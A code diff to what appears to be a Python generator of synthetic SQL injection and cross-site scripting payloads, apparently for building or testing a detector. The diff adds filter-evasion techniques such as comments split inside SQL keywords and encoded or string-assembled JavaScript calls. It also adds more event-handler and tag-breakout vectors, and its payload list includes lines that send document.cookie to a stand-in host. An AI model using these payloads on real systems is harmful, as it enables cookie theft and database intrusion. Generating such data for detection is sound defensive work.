@@ -47,7 +47,7 @@ def hexs():
 
 # (quote char, closing parens): where the value lands
 CONTEXTS = [("", 0), ("", 1), ("", 2), ("", 3), ("'", 0), ("'", 1), ("'", 2),
-            ("'", 3), ('"', 0), ('"', 1), ('"', 2), ("`", 1)]
+            ("'", 3), ('"', 0), ('"', 1), ('"', 2), ("`", 1), ("%'", 0), ("%'", 1)]
 
 
 def start_value():
@@ -57,6 +57,8 @@ def start_value():
 def balance(q, p):
     """The tail that makes the rest of the original query parse again."""
     n = num()
+    if q == "%'":
+        return " AND '%'='"
     if q:
         s = rstr()
         cmp_ = rng.choice(["%s%s%s=%s%s%s" % (q, s, q, q, s, q),
@@ -266,8 +268,21 @@ def obfuscate(s):
         return s.replace(" ", "/*%s*/" % rstr())
     if r < 0.85:
         return s.replace(" ", "#%s\n" % rstr()) if "#" not in s else s
-    if r < 0.90:
+    if r < 0.88:
         return s.replace("=", " LIKE ") if "'" not in s else s
+    if r < 0.91:
+        # comments inside keywords (the second judging pass joins them)
+        out = []
+        for w in s.split(" "):
+            if w.isalpha() and len(w) > 3 and w.upper() in ("UNION", "SELECT", "SLEEP", "WHERE", "FROM"):
+                k = rng.randint(1, len(w) - 1)
+                w = w[:k] + "/**/" + w[k:]
+            out.append(w)
+        return " ".join(out)
+    if r < 0.94:
+        return s.replace(" ", "--%s\n" % rstr()) if "-- " not in s else s
+    if r < 0.97:
+        return s.replace(" AND ", " && ").replace(" OR ", " || ")
     return s.replace(" ", "  ")
 
 
@@ -279,8 +294,9 @@ def sqli_one():
     if tech is t_inline:
         # inline query: replaces the value or is concatenated into it
         if q:
-            v = rng.choice(["%s||%s||%s" % (q, body, q), "%s+%s+%s" % (q, body, q),
-                            "%s AND %s=%s AND %s1%s=%s1" % (q, body, body, q, q, q)])
+            c = q[-1]  # %' closes with '
+            v = rng.choice(["%s||%s||%s" % (q, body, c), "%s+%s+%s" % (q, body, c),
+                            "%s AND %s=%s AND %s1%s=%s1" % (q, body, body, c, c, c)])
         else:
             v = body
         return v
@@ -326,7 +342,9 @@ def gen_sqli(n):
 
 # ---- XSS ------------------------------------------------------------------
 
-CODE = ["alert(1)", "alert`1`", "prompt(document.domain)", "confirm(1)", "alert(document.cookie)",
+CODE = ["alert&#40;1&#41;", "&#97;lert(1)", "alert&lpar;1&rpar;", "top[/al/.source+/ert/.source](1)",
+        "window['ale'+'rt'](document['dom'+'ain'])", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
+        "alert(1)", "alert`1`", "prompt(document.domain)", "confirm(1)", "alert(document.cookie)",
         "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", "window.onerror=alert;throw 1",
         "[1].find(alert)", "(alert)(1)", "al\\u0065rt(1)", "import('//x.example/a.js')",
         "fetch('//x.example/?'+document.cookie)", "location='//x.example/?c='+document.cookie",
@@ -341,7 +359,11 @@ EVENTS = [("img", "src=x onerror"), ("svg", "onload"), ("body", "onload"), ("bod
           ("object", "onerror"), ("embed", "onload"), ("xss", "onanimationstart"), ("form", "onsubmit"),
           ("button", "onfocusin"), ("math", "onclick"), ("keygen", "autofocus onfocus"),
           ("img", "src=1 onload"), ("svg", "onbegin"), ("image", "src=x onerror"), ("custom-el", "onbeforecopy"),
-          ("table", "background=x onerror"), ("isindex", "type=image src=1 onerror")]
+          ("table", "background=x onerror"), ("isindex", "type=image src=1 onerror"),
+          ("body", "onresize"), ("body", "onhashchange"), ("svg", "onmousemove"),
+          ("a", "href=# onfocus"), ("input", "type=text onbeforeinput"), ("div", "draggable=true ondragstart"),
+          ("iframe", "src=//x.example onload"), ("link", "rel=stylesheet href=x onerror"),
+          ("script", "src=x onerror"), ("x", "tabindex=1 onfocusin"), ("summary", "onclick")]
 
 URLS = [("a", "href"), ("iframe", "src"), ("form", "action"), ("object", "data"), ("embed", "src"),
         ("button", "formaction"), ("math", "href"), ("area", "href"), ("base", "href"), ("frame", "src"),
@@ -359,7 +381,7 @@ def js_url(code):
 
 
 def sep():
-    return rng.choice([" ", " ", "/", "\t", "\n", "\x0c", "/x/", " /", "\r\n", "//"])
+    return rng.choice([" ", " ", "/", "\t", "\n", "\x0c", "/x/", " /", "\r\n", "//", "/\"/", "\n\n"])
 
 
 def quote_val(code):
@@ -445,7 +467,8 @@ def xss_one():
         pass
     elif ctx < 0.8 and v.startswith("<"):
         v = rng.choice(['">', "'>", ">", '"/>', "</title>", "</textarea>", "-->", "</style>",
-                        "]]>", "</noscript>", "</option></select>", "\"></a>", "x\">"]) + v
+                        "]]>", "</noscript>", "</option></select>", "\"></a>", "x\">",
+                        "</script>", "'\">", "\"'>", "*/-->", "</iframe>", "\");</script>"]) + v
     else:
         v = rng.choice(["", "x", "test", "1"]) + v
     return v
